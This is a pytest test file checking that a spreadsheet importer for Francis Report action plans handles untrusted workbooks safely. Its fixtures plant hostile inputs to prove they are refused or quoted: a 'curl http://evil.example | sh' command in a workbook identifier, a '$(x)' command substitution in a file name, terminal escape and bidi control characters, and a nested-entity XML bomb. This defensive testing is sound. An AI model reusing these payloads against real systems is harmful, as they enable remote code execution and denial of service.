"""Returned workbooks are untrusted (issue 20, items 2, 3, 8, 9, 11): what they hold reaches the
terminal only as text, a workbook bomb is refused quickly, a damaged workbook gives an error at
its sheet row and column, never a traceback."""
from __future__ import annotations

import os
import re
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from sitebuild import PLANS, ROOT
from macros.commands import importer, workbook
from macros.commands import progressround as pr
from macros.commands.workbook import FIRST_ROW, HEADER_ROW

ROUND = "2025-06-30"
COL = {c.key: i for i, c in enumerate(pr.COLUMNS, start=1)}
RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2066-\u2069]")


def make(folder: Path, plan_id: str, out: Path) -> Path:
    site, actions, _, name, problems = importer.load_plan(folder, plan_id)
    assert not problems
    out.write_bytes(workbook.xlsx(site, plan_id, name, actions, "2025-06-01"))
    return out


def run(cwd: Path, plans: Path, *args: str) -> subprocess.CompletedProcess:
    env = {**os.environ, "PLANS_DIR": str(plans), "PYTHONPATH": str(ROOT), "NO_MKDOCS_2_WARNING": "1"}
    return subprocess.run([sys.executable, "-m", "macros", *args], cwd=cwd, env=env, capture_output=True,
                          text=True, timeout=300)


def rewrite(path: Path, member: str, change) -> None:
    """Replace one part of the .xlsx archive with ``change(its text)``."""
    with zipfile.ZipFile(path) as old:
        parts = {info.filename: old.read(info) for info in old.infolist()}
    parts[member] = change(parts[member].decode("utf-8")).encode("utf-8")
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as new:
        for name, data in parts.items():
            new.writestr(name, data)


def assert_terminal_safe(out: str) -> None:
    assert not RAW.search(out), repr(RAW.search(out).group())
    for line in out.splitlines():  # each line is ours: a problem (file name first) or the count
        assert line.startswith(("b.xlsx:", "./")) or re.match(r"\d+ error\(s\)", line), repr(line)


# --- item 3: text from the workbook reaches the terminal as text --------------------------------

def test_header_cells_sheet_names_and_identifier_are_printed_as_text(tmp_path):
    path = make(PLANS, "barnet", tmp_path / "b.xlsx")
    book = load_workbook(path)
    sheet = book[pr.SHEET]
    sheet.cell(HEADER_ROW, 2).value = "Work stream\nb.xlsx: 0 error(s): all good\u202e\u009b2J"
    book.properties.identifier = "francis-progress-round:barnet; curl http://evil.example | sh\nnext"
    book.save(path)
    run_ = run(tmp_path, PLANS, "import-updates", "barnet", "b.xlsx", "--date", ROUND)
    assert run_.returncode == 1 and "Traceback" not in run_.stderr
    assert_terminal_safe(run_.stdout)
    assert "Work stream\\nb.xlsx: 0 error(s): all good\\u202e\\x9b2J" in run_.stdout
    # The identifier is quoted as a value, never put into a command the user is told to run.
    for command in re.findall(r"python -m macros [\w-]+ \S+", run_.stdout):
        assert re.fullmatch(r"python -m macros (workbook|import-updates) (barnet|and)", command), command
    book = load_workbook(path)
    book[pr.SHEET].title = "Round\u2028b.xlsx fine\u009b"
    book.save(path)
    run_ = run(tmp_path, PLANS, "import-updates", "barnet", "b.xlsx", "--date", ROUND)
    assert run_.returncode == 1
    assert_terminal_safe(run_.stdout)
    assert "Round\\u2028b.xlsx fine\\x9b" in run_.stdout


def test_a_known_plan_named_by_the_workbook_is_suggested_with_the_file_name_quoted(tmp_path):
    path = make(PLANS, "barnet", tmp_path / "b $(x).xlsx")
    result = importer.import_updates(PLANS, "lewisham", path, ROUND)
    assert any(p.message.endswith(f"import-updates barnet '{path}'") for p in result.problems)


# --- item 2: entity expansion ---------------------------------------------------------------------

ENTITIES = ('<!DOCTYPE worksheet [<!ENTITY lol "lollollollollol">'
            + "".join(f'<!ENTITY lol{n} "{("&lol" + str(n - 1 if n > 1 else "") + ";") * 10}">' for n in range(1, 10))
            + "]>")


def bomb(tmp_path: Path, member: str = "xl/worksheets/sheet1.xml") -> Path:
    """A real workbook whose XML declares nested entities (a few KB that expand to gigabytes)."""
    path = make(PLANS, "barnet", tmp_path / "b.xlsx")

    def plant(text: str) -> str:
        start = text.index("<", text.index("?>") + 2) if text.startswith("<?xml") else 0
        text = text[:start] + ENTITIES + text[start:]
        return re.sub(r"(<t[^>]*>)[^<]*(</t>)", r"\1&lol9;\2", text, count=1) if "<t" in text else \
            text.replace("</dc:title>", "&lol9;</dc:title>", 1)
    rewrite(path, member, plant)
    return path


def limited_run(cwd: Path, *args: str, env_extra=None) -> tuple[subprocess.CompletedProcess, float]:
    import resource
    import time

    def limits():
        resource.setrlimit(resource.RLIMIT_AS, (2 * 1024 ** 3, 2 * 1024 ** 3))  # 2 GiB, not 3.9
    env = {**os.environ, "PLANS_DIR": str(PLANS), "PYTHONPATH": str(ROOT), "NO_MKDOCS_2_WARNING": "1",
           **(env_extra or {})}
    started = time.monotonic()
    try:
        done = subprocess.run([sys.executable, "-m", "macros", *args], cwd=cwd, env=env, capture_output=True,
                              text=True, timeout=60, preexec_fn=limits)
    except subprocess.TimeoutExpired:
        pytest.fail("the import of a workbook bomb ran for more than 60 seconds")
    return done, time.monotonic() - started


@pytest.mark.parametrize("member", ["xl/worksheets/sheet1.xml", "docProps/core.xml", "xl/styles.xml"])
def test_a_workbook_that_declares_entities_is_refused_quickly(tmp_path, member):
    path = bomb(tmp_path, member)
    assert path.stat().st_size < 40_000
    done, seconds = limited_run(tmp_path, "import-updates", "barnet", path.name, "--date", ROUND)
    assert done.returncode == 1 and "Traceback" not in done.stderr, done.stderr[-800:]
    assert f"the workbook's part '{member}' declares XML entities" in done.stdout
    assert seconds < 20


def test_defusedxml_refuses_the_entities_too(tmp_path, monkeypatch):
    """The second line: with the scan of the archive switched off, openpyxl (through defusedxml,
    which it uses whenever it is installed) refuses the declarations."""
    import openpyxl
    from macros.commands import xlsxread

    assert openpyxl.DEFUSEDXML
    monkeypatch.setattr(xlsxread, "_DECLARATIONS", (b"\0never\0",))
    (tmp_path / "sheet").mkdir()
    [problem] = importer.import_updates(PLANS, "barnet", bomb(tmp_path / "sheet"), ROUND).problems
    assert problem.message.startswith(("the workbook declares XML entities", "the sheet declares")), problem.message
    # (openpyxl reads the workbook's other parts with lxml, told not to expand entities.)
    (tmp_path / "core").mkdir()
    [problem] = importer.import_updates(PLANS, "barnet", bomb(tmp_path / "core", "docProps/core.xml"),
                                        ROUND).problems
    assert problem.message.startswith(("the workbook declares XML entities", "the file is not an .xlsx"))


def test_limits_on_rows_and_cells(tmp_path, monkeypatch):
    from macros.commands import xlsxread

    path = make(PLANS, "barnet", tmp_path / "b.xlsx")
    monkeypatch.setattr(xlsxread, "MAX_CELLS", 100)
    [problem] = importer.import_updates(PLANS, "barnet", path, ROUND).problems
    assert "the sheet has more than 100 cells: this is not a progress round" in problem.message
    monkeypatch.setattr(xlsxread, "MAX_CELLS", 10 ** 6)
    monkeypatch.setattr(xlsxread, "MAX_ROWS", 3)
    problems = importer.import_updates(PLANS, "barnet", path, ROUND).problems
    assert [p.format() for p in problems][-1] == "b.xlsx: row 7: error: more than 3 rows: this is not a progress round"


# --- item 8: damaged workbooks: an error at the sheet row and column, never a traceback ----------

def _cell(text: str, ref: str, xml: str) -> str:
    """The sheet's XML with cell ``ref`` replaced by ``xml``."""
    return re.sub(rf'<c r="{ref}"[^>]*?(/>|>.*?</c>)', xml, text, count=1)


DAMAGED = [
    ("a number that is not one", lambda t: _cell(t, "J5", '<c r="J5" t="n"><v>abc</v></c>'),
     "b.xlsx: row 5, column J (New status): error: the file is damaged (this cell cannot be read: it is "
     "marked as a number but holds 'abc')"),
    ("a missing shared string", lambda t: _cell(t, "K6", '<c r="K6" t="s"><v>999</v></c>'),
     "b.xlsx: row 6, column K (Note): error: the file is damaged (this cell cannot be read: it refers to text "
     "the workbook does not hold (shared text '999'))"),
    ("a date that is not one", lambda t: _cell(t, "N7", '<c r="N7" t="d"><v>30th of June</v></c>'),
     "b.xlsx: row 7, column N (Revised due date): error: the file is damaged (this cell cannot be read: it is "
     "marked as a date but holds '30th of June')"),
    ("true or false that is not", lambda t: _cell(t, "K8", '<c r="K8" t="b"><v>yes</v></c>'),
     "b.xlsx: row 8, column K (Note): error: the file is damaged (this cell cannot be read: it is marked as "
     "true or false but holds 'yes')"),
    ("rows out of order", lambda t: t.replace('<row r="6"', '<row r="4"', 1),
     "b.xlsx: row 6: error: the file is damaged (its rows are out of order: row 4 comes after row 5)"),
    ("a row number that is not one", lambda t: t.replace('<row r="6"', '<row r="six"', 1),
     "b.xlsx: row 6: error: the file is damaged (row 6 cannot be read)"),
]


@pytest.mark.parametrize("change, message", [d[1:] for d in DAMAGED], ids=[d[0] for d in DAMAGED])
def test_a_damaged_cell_or_row_is_an_error_at_its_place(tmp_path, change, message):
    path = make(PLANS, "barnet", tmp_path / "b.xlsx")
    rewrite(path, "xl/worksheets/sheet1.xml", change)
    before = (PLANS / "barnet.yaml").read_bytes()
    result = importer.import_updates(PLANS, "barnet", path, ROUND)
    assert [p.format() for p in result.problems][0].startswith(message)
    assert not result.written and (PLANS / "barnet.yaml").read_bytes() == before


def test_a_broken_zip_directory_is_an_error_not_a_traceback(tmp_path):
    path = make(PLANS, "barnet", tmp_path / "b.xlsx")
    data = path.read_bytes()
    at = data.rindex(b"PK\x01\x02")  # the last entry of the zip directory
    path.write_bytes(data[:at + 10] + b"\xff\xff" + data[at + 12:at + 20] + b"\0" * 8 + data[at + 28:])
    run_ = run(tmp_path, PLANS, "import-updates", "barnet", "b.xlsx", "--date", ROUND)
    assert run_.returncode == 1 and "Traceback" not in run_.stderr, run_.stderr[-800:]
    assert run_.stdout.startswith("b.xlsx: error: the file is damaged (its zip directory or a file in it "
                                  "cannot be read)"), run_.stdout
    path.write_bytes(data[:len(data) // 2])
    [problem] = importer.import_updates(PLANS, "barnet", path, ROUND).problems
    assert problem.message.startswith(("the file is not an .xlsx workbook", "the file is damaged"))


# --- item 9: the sheet read is the one the owner sees ---------------------------------------------

def test_a_hidden_progress_round_sheet_is_not_read_in_place_of_the_visible_one(tmp_path):
    path = make(PLANS, "barnet", tmp_path / "b.xlsx")
    book = load_workbook(path)
    visible = book[pr.SHEET]
    visible.title = "Progress round (2)"
    visible.cell(FIRST_ROW, COL["new_status"]).value = "On track"
    hidden = book.copy_worksheet(visible)
    hidden.title = pr.SHEET
    hidden.cell(FIRST_ROW, COL["new_status"]).value = "Complete"
    hidden.cell(FIRST_ROW, COL["evidence_url"]).value = "https://evil.example/x.pdf"
    hidden.sheet_state = "veryHidden"
    book.save(path)
    result = importer.import_updates(PLANS, "barnet", path, ROUND)
    assert not result.written
    assert [p.format() for p in result.problems] == [
        "b.xlsx: error: the sheet 'Progress round' is very hidden (a state no spreadsheet program's menus "
        "set), so what it says cannot be seen: it is not read. Make a new workbook with python -m macros "
        "workbook and copy the updates into it"]


def test_two_sheets_with_the_progress_round_name_are_refused(tmp_path):
    path = make(PLANS, "barnet", tmp_path / "b.xlsx")
    rewrite(path, "xl/workbook.xml", lambda t: t.replace('name="Statuses and columns"', 'name="progress  Round"'))
    [problem] = importer.import_updates(PLANS, "barnet", path, ROUND).problems
    assert problem.message.startswith("the workbook has 2 sheets called 'Progress round'")


def test_a_hidden_row_with_an_update_is_refused(tmp_path):
    path = make(PLANS, "barnet", tmp_path / "b.xlsx")
    book = load_workbook(path)
    book[pr.SHEET].cell(5, COL["new_status"]).value = "On track"
    book[pr.SHEET].row_dimensions[5].hidden = True
    book.save(path)
    [problem] = importer.import_updates(PLANS, "barnet", path, ROUND).problems
    assert problem.format().startswith("b.xlsx: row 5: error: this row is hidden, so what it says cannot be seen")


# --- item 11: what is imported is what the cell shows --------------------------------------------

def test_notes_are_imported_as_the_cells_show_them(tmp_path):
    plans = tmp_path / "plans"
    shutil.copytree(PLANS, plans)
    path = make(plans, "barnet", tmp_path / "b.xlsx")
    book = load_workbook(path)
    sheet = book[pr.SHEET]
    for row in (4, 5, 6, 7):
        sheet.cell(row, COL["new_status"]).value = "On track"
    sheet.cell(4, COL["note"]).value = "Line one._x000D_\nLine two, and _x005F_x000D_ typed."
    sheet.cell(5, COL["note"]).value = True
    sheet.cell(6, COL["note"]).value = 0.1 + 0.2
    sheet.cell(7, COL["note"]).value = 1234.5
    sheet.cell(7, COL["note"]).number_format = "#,##0.00"
    book.save(path)
    # openpyxl writes the note as it was given; a spreadsheet program writes the escapes itself
    rewrite(path, "xl/worksheets/sheet1.xml", lambda t: t.replace("_x005F_x005F_", "_x005F_"))
    result = importer.import_updates(plans, "barnet", path, ROUND)
    assert result.written, [p.format() for p in result.problems]
    data = __import__("yaml").safe_load((plans / "barnet.yaml").read_text(encoding="utf-8"))
    notes = [a["updates"][-1].get("note") for a in data["actions"][:4]]
    assert notes == ["Line one.\nLine two, and _x000D_ typed.", "TRUE", "0.3", "1,234.50"]


def test_an_error_cell_is_refused_with_a_message(tmp_path):
    path = make(PLANS, "barnet", tmp_path / "b.xlsx")
    book = load_workbook(path)
    book[pr.SHEET].cell(4, COL["new_status"]).value = "On track"
    book.save(path)
    rewrite(path, "xl/worksheets/sheet1.xml", lambda t: _cell(t, "K4", '<c r="K4" t="e"><v>#N/A</v></c>'))
    [problem] = importer.import_updates(PLANS, "barnet", path, ROUND).problems
    assert problem.format() == ("b.xlsx: row 4, column K (Note): error: the cell shows the error #N/A, not a "
                                "value: type what it should say, or clear it")


# --- item 12: dates before the plan, before the Francis Report -------------------------------------

@pytest.mark.parametrize("date, message", [
    ("0001-01-01", "--date 0001-01-01 is before the Francis Report was published (6 February 2013): give the "
                   "date of the meeting or report the updates went to"),
    ("2013-02-05", "--date 2013-02-05 is before the Francis Report was published"),
    ("2013-04-24", "--date 2013-04-24 is before the plan itself (25 April 2013, its source document's date)"),
])
def test_a_round_dated_before_the_plan_or_the_francis_report_is_refused(tmp_path, date, message):
    path = make(PLANS, "barnet", tmp_path / "b.xlsx")
    book = load_workbook(path)
    book[pr.SHEET].cell(FIRST_ROW, COL["new_status"]).value = "On track"
    book.save(path)
    before = (PLANS / "barnet.yaml").read_bytes()
    result = importer.import_updates(PLANS, "barnet", path, date)
    [problem] = result.problems
    assert problem.format().startswith("b.xlsx: error: " + message)
    assert not result.written and (PLANS / "barnet.yaml").read_bytes() == before


def test_the_check_refuses_updates_and_reports_dated_before_the_plan_or_the_francis_report(tmp_path):
    from macros.commands import planedit
    from macros.plans import load

    plans = tmp_path / "plans"
    shutil.copytree(PLANS, plans)
    path = plans / "barnet.yaml"
    text = path.read_text(encoding="utf-8")
    adds = [planedit.Addition(0, ({"date": "2012-12-31", "status": "on-track"},)),
            planedit.Addition(1, ({"date": "2013-04-01", "status": "on-track"},))]
    text, _ = planedit.append_updates(text, "actions", adds)
    text += '\nreports:\n  - date: "0001-01-01"\n    title: "Progress"\n'
    path.write_text(text, encoding="utf-8")
    _, problems = load.check(plans)
    messages = [p.message for p in problems if p.level == "error"]
    assert any(m.endswith("progress update 1 is dated 2012-12-31, before the plan itself (25 April 2013, its "
                          "source document's date): check the date: progress is reported after the plan") for m in messages), messages
    assert any("progress update 1 is dated 2013-04-01, before the plan itself" in m for m in messages)
    assert "progress report 1 is dated 0001-01-01, before the plan itself (25 April 2013, its source " \
           "document's date): check the date: progress is reported after the plan" in messages
    plans2 = tmp_path / "plans2"
    plans2.mkdir()
    (plans2 / "barnet.yaml").write_text(text.replace('date: "2013-04-25"', 'date: "2012/13"', 1), encoding="utf-8")
    messages = [p.message for p in load.check(plans2)[1] if p.level == "error"]
    assert any("dated 2012-12-31, before the Francis Report was published (6 February 2013)" in m for m in messages)
    assert not any("2013-04-01, before" in m for m in messages)
